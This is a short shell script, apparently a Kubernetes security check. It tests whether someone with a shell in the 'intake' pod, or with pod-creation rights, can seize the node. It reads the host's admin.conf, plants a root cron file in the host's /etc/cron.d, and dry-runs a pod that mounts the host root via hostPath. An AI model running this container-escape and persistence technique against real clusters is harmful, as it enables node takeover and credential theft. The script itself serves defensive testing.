# Someone with a shell in the intake's pod, or with the right to create pods beside it. Exit 0: the
# node is theirs, or would be.
won=no

echo "in the intake's pod:"
if kubectl -n orders exec deployment/intake -- sh -c '
    grep server: /host/etc/kubernetes/admin.conf &&
    mkdir -p /host/etc/cron.d &&
    echo "* * * * * root id" > /host/etc/cron.d/left-by-a-guest &&
    ls -l /host/etc/cron.d/left-by-a-guest'; then
  echo "on the node:"
  cat etc/cron.d/left-by-a-guest
  won=yes
fi

echo "a pod of the guest's own (dry run):"
if kubectl --as=system:serviceaccount:orders:dev -n orders create --dry-run=server -f - <<'YAML'
apiVersion: v1
kind: Pod
metadata: {name: guest}
spec:
  containers:
  - {name: c, image: "hardenway/workload:v1", args: [idle], volumeMounts: [{name: node, mountPath: /host}]}
  volumes:
  - {name: node, hostPath: {path: /}}
YAML
then
  won=yes
fi

[ "$won" = yes ]
